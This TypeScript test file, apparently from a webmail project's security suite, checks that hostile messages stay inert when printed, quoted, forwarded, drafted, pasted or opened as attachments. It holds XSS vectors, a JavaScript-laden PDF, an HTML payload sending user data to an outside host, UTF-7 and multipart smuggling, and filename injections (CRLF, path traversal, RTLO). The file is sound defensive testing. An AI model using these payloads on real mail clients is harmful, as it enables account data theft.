// Hostile mail on all ways by which it is seen besides being read: on paper, quoted, sent on, as a draft, as an attachment that is looked
// at or opened. Nothing runs, nothing is asked for elsewhere, and the page stays of use.

import { readFileSync } from 'node:fs'
import type { Locator, Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { type Account, account, mail } from '../../../http/api/mail-world.ts'
import { type Kind, pagesOf } from '../../chromium.ts'
import { usePage } from '../page.ts'
import { mutationVectors } from './mutations.ts'
import { away, furtherVectors } from './vectors.ts'

const pages = usePage()
const { service } = pages
let victim: Account

beforeAll(async () => {
  victim = await account(service, 'target')
})

/** Everything at once, as far as it does not swallow what follows. */
const all = [mutationVectors, furtherVectors]
  .flatMap(Object.entries)
  .filter(([name]) => !/deep|plaintext|breaks/.test(name))
  .map(([name, html]) => `<div><p>${name}</p>${html}</div>`)
  .join('\n')
const letter = `<p>Read <b>me</b></p><img src="${away}/first.png" alt="first"><p style="background:url(${away}/bg.png)">styled</p>`

const refused = [
  'Content Security Policy',
  'tracker.test',
  'status of',
  'ERR_',
  'sandbox',
  'Blocked script',
  'inline event',
]

async function bring(source: string, folder = 'INBOX'): Promise<number> {
  const place = `/users/${victim.id}/mailboxes/${victim.box(folder)}/messages?draft=${folder === 'Drafts'}`
  const answer = await service.raw('POST', place, {
    headers: { 'content-type': 'message/rfc822' },
    body: Buffer.from(source),
  })
  expect(answer.status).toBe(200)
  return ((await answer.json()) as { message: { id: number } }).message.id
}

/** Opens a message; what is asked for elsewhere from then on is listed. */
async function open(uid: number, folder = 'INBOX', kind: Kind = 'shell'): Promise<{ page: Page; asked: string[] }> {
  const page = await pages.visit('/app/mail', { as: 'target', kind })
  pages.expectErrors(...refused)
  const asked: string[] = []
  page.context().on('request', request => {
    if (!request.url().startsWith(pages.origin) && !/^(data|blob|about|chrome|chrome-extension):/.test(request.url()))
      asked.push(request.url())
  })
  await page.goto(`${pages.origin}/app/mail/${victim.box(folder)}?m=${uid}`)
  await page.locator('.mail-html[aria-busy=false], .mail-text').first().waitFor()
  return { page, asked }
}

async function unharmed({ page, asked }: { page: Page; asked: string[] }): Promise<void> {
  const seen = page.waitForRequest(`${pages.origin}/app/settled`)
  await page.evaluate(`new Promise(done => requestAnimationFrame(() => requestAnimationFrame(
    () => fetch('/app/settled').then(done)
  )))`)
  await seen
  expect(asked).toEqual([])
  expect(await page.evaluate('globalThis.ran')).toBeUndefined()
  expect(pagesOf(page.context())).toHaveLength(1)
  expect(await page.title()).not.toContain('owned')
}

/** What stands in the place where one writes that may not: elements, handlers, styles, pictures from elsewhere. */
const forbidden =
  'script,style,iframe,svg,math,form,input,object,embed,link,meta,base,[style],[id],img:not([src^="data:image/"])'

async function isTame(body: Locator, name: string): Promise<void> {
  const left = await body.locator(forbidden).evaluateAll(found => found.map(one => one.outerHTML))
  expect(left, name).toEqual([])
  const names = await body.locator('*').evaluateAll(found => found.flatMap(one => one.getAttributeNames()))
  expect(
    names.filter(one => /^on/.test(one)),
    name,
  ).toEqual([])
}

const html = (subject: string, text: string) =>
  `Subject: ${subject}\r\nFrom: thief@example.net\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${text}\r\n`

test('on paper', async () => {
  const at = await open(await bring(html('Paper', letter + all)))
  await at.page.emulateMedia({ media: 'print' })
  await at.page.pdf()
  await unharmed(at)
})

test('quoted in an answer and sent on, plainly and with form, saved and opened again', async () => {
  const id = await bring(html('Quoted', letter + all))
  for (const [way, isRich] of [
    ['Reply', true],
    ['Forward', false],
  ] as const) {
    const at = await open(id)
    const writer = at.page.locator('.mail-writer')
    await at.page.getByRole('button', { name: way, exact: true }).click()
    await writer.waitFor()
    const other = writer.getByRole('button', { name: isRich ? 'Formatting' : 'Plain text' })
    if ((await other.count()) > 0) await other.click()
    const lose = at.page
      .getByRole('dialog', { name: 'Write on as plain text?' })
      .getByRole('button', { name: 'Plain text' })
    if (!isRich && (await lose.count()) > 0) await lose.click()
    const body = writer.getByRole('textbox', { name: 'What you write' })
    await body.focus()
    await at.page.keyboard.type('Mine')
    await writer.getByText('Draft saved').waitFor()
    await isTame(body, way)
    await unharmed(at)
    await writer.getByRole('button', { name: 'Save and close' }).click()
    await writer.waitFor({ state: 'detached' })
    const [draft] = (await victim.call('GET', `/mailboxes/${victim.box('Drafts')}/messages`)).body.results
    const again = await open(draft.id, 'Drafts')
    await again.page.getByRole('button', { name: 'Go on writing' }).click()
    const kept = again.page.locator('.mail-writer').getByRole('textbox', { name: 'What you write' })
    await kept.waitFor()
    await isTame(kept, way)
    await unharmed(again)
  }
})

test('as a draft that another program left', async () => {
  const at = await open(await bring(html('Draft of another', letter + all), 'Drafts'), 'Drafts')
  await at.page.getByRole('button', { name: 'Go on writing' }).click()
  await at.page.locator('.mail-writer').getByRole('textbox', { name: 'What you write' }).waitFor()
  await unharmed(at)
})

test('as plain text, with addresses that only look like some', async () => {
  const text = `https://good.test/?a=<img src=x onerror=top.ran=1> javascript:top.ran=1 https://a.test"onmouseover=top.ran=1 <script>top.ran=1</script>\r\nhttps://tracker.test/\u202egnp.exe`
  const at = await open(await bring(html('Text', 'x').replace('text/html', 'text/plain').replace('x\r\n', text)))
  const links = await at.page.locator('.mail-text a').evaluateAll(found => found.map(one => one.getAttribute('href')))
  for (const link of links) expect(link).toMatch(/^https:\/\/[^\s<>"'\u202e]+$/)
  await unharmed(at)
})

const pdf = [
  '%PDF-1.7',
  `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${away}/launch"\\);this.submitForm\\("${away}/submit"\\);app.alert\\(1\\))>>/AA<</WC<</S/URI/URI(${away}/close)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.getURL\\("${away}/get"\\))>>]>>>>>>endobj`,
  '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
  `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(${away}/open)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:top.ran=1)>>>>]>>endobj`,
  'trailer<</Root 1 0 R>>\n%%EOF\n',
].join('\n')
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran=1"><script>top.ran=1;fetch('${away}/svg')</script><image href="${away}/svg.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/svg"/></foreignObject></svg>`
const page = `<script>top.ran=1;opener&&(opener.ran=1);fetch('/users/me').then(a=>a.text()).then(t=>fetch('${away}/?'+t))</script><img src="${away}/page.png"><meta http-equiv=refresh content="0;url=${away}/r"><h1>owned</h1>`
const files: readonly (readonly [type: string, name: string, body: string])[] = [
  ['application/pdf', 'script.pdf', pdf],
  ['application/octet-stream', 'also.pdf', pdf],
  ['text/html', 'page.html', page],
  [
    'application/xhtml+xml',
    'page.xhtml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>top.ran=1</script></html>`,
  ],
  ['image/svg+xml', 'picture.svg', svg],
  ['image/png', 'svg.png', svg],
  [
    'text/xml',
    'sheet.xml',
    `<?xml-stylesheet href="${away}/x.xsl" type="text/xsl"?><a xmlns:x="http://www.w3.org/1999/xhtml"><x:script>top.ran=1</x:script></a>`,
  ],
  ['text/javascript', 'program.js', 'top.ran=1'],
  ['message/rfc822', 'nested.eml', html('Nested', letter)],
  ['multipart/x-mixed-replace', 'replace.txt', page],
]

test('as attachments that are looked at, kept and opened', async () => {
  const parts = files.map(
    ([type, name, body]) =>
      `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n`,
  )
  const source = `Subject: Files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee\r\n${parts.join('')}--b--\r\n`
  const at = await open(await bring(source), 'INBOX', 'whole')
  const { page } = at
  const dialog = page.getByRole('dialog')
  for (const button of await page.getByRole('button', { name: /^Look at / }).all()) {
    await button.click()
    await dialog.locator('img, pre, iframe, p').first().waitFor()
    await unharmed(at)
    await dialog.getByRole('button', { name: 'Close', exact: true }).click()
  }
  const links = await page
    .locator('.mail-attachments a')
    .evaluateAll(found => found.map(one => one.getAttribute('href') ?? ''))
  expect(links.length).toBeGreaterThan(7)
  for (const link of links) {
    // As somebody opens it who takes the address out of the link.
    const other = await page.context().newPage()
    await other.goto(pages.origin + link).catch(() => null)
    expect(await other.evaluate('globalThis.ran').catch(() => undefined)).toBeUndefined()
    await other.close()
    await unharmed(at)
  }
})

test('names of files are lines of their own letters, in the page and on the disk', async () => {
  const names = [
    ["utf-8''invoice%E2%80%AEfdp.exe", 'invoicefdp.exe'],
    ["utf-8''a%0D%0AX-Evil%3A%201%0D%0A.txt", ''],
    ["utf-8''..%2F..%2Fetc%2Fpasswd", ''],
    [`utf-8''%22%3E%3Cimg%20src%3Dx%20onerror%3Dtop.ran%3D1%3E.txt`, ''],
    ["utf-8''con.txt%00.exe", ''],
    [`utf-8''${'%E2%81%A6%E2%80%8B%EF%BB%BF'.repeat(50)}plain.txt`, 'plain.txt'],
  ]
  const parts = names.map(
    ([name], n) =>
      `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=${name}\r\n\r\nfile ${n}\r\n`,
  )
  const source = `Subject: Names\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts.join('')}--b--\r\n`
  const at = await open(await bring(source))
  const links = at.page.locator('.mail-attachments a')
  await expect.poll(() => links.count()).toBe(names.length)
  for (const [n, [, shown = '']] of names.entries()) {
    const saving = at.page.waitForEvent('download')
    await links.nth(n).click()
    const saved = await saving
    expect(saved.suggestedFilename()).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069\u200b\ufeff/\\]/)
    expect(saved.suggestedFilename()).not.toMatch(/^\./)
    expect(readFileSync(await saved.path(), 'utf8').trim()).toBe(`file ${n}`)
    const text = await links.nth(n).locator('bdi').textContent()
    expect(text).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069\u200b\ufeff]/)
    if (shown !== '') expect(text).toBe(shown)
  }
  await unharmed(at)
})

test('charsets and nested messages that pretend to be others', async () => {
  const sources = [
    html('Seven', '+ADw-script+AD4-top.ran=1+ADw-/script+AD4-').replace('charset=utf-8', 'charset=utf-7'),
    html('Japanese', `\u001b(J<a title="\u001b$B">${'x'.repeat(9)}"><img src=x onerror=top.ran=1>`).replace(
      'charset=utf-8',
      'charset=iso-2022-jp',
    ),
    html('Sixteen', '<\0script\0>\0top.ran=1').replace('charset=utf-8', 'charset=utf-16le'),
    html('Unknown', '<script>top.ran=1</script>').replace('charset=utf-8', 'charset=x-user-defined'),
    `Subject: Related\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; start="<r>"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <r>\r\n\r\n<img src="cid:s"><iframe src="cid:h"></iframe><link rel=stylesheet href="cid:c"><object data="cid:s"></object>\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <s>\r\n\r\n${svg}\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <h>\r\n\r\n${page}\r\n--b\r\nContent-Type: text/css\r\nContent-ID: <c>\r\n\r\n@import "${away}/c.css"\r\n--b--\r\n`,
    `Subject: Inside\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n${html('Inner', page + letter)}`,
    `Subject: Two\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<style>/*\r\n--b\r\nContent-Type: text/html\r\n\r\n*/</style><img src=x onerror=top.ran=1><a title="\r\n--b\r\nContent-Type: text/html\r\n\r\n"><img src=x onerror=top.ran=1>\r\n--b--\r\n`,
  ]
  for (const source of sources) {
    const at = await open(await bring(source))
    await unharmed(at)
    await at.page.close()
  }
})

test('what is pasted, from wherever it comes', async () => {
  const id = await victim.put('INBOX', mail('Answer me', 'x'))
  const at = await open(id)
  const writer = at.page.locator('.mail-writer')
  await at.page.getByRole('button', { name: 'Reply', exact: true }).click()
  await writer.waitFor()
  const formatting = writer.getByRole('button', { name: 'Formatting' })
  if ((await formatting.count()) > 0) await formatting.click()
  const body = writer.getByRole('textbox', { name: 'What you write' })
  await writer.getByRole('toolbar').waitFor()
  for (const [name, given] of [...Object.entries(mutationVectors), ...Object.entries(furtherVectors)]) {
    if (/deep/.test(name)) continue
    await body.focus()
    await at.page.evaluate(`{
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', ${JSON.stringify(`<p>pasted</p>${given}`)})
      const how = { clipboardData, bubbles: true, cancelable: true }
      document.activeElement.dispatchEvent(new ClipboardEvent('paste', how))
    }`)
    await isTame(body, name)
  }
  await unharmed(at)
})
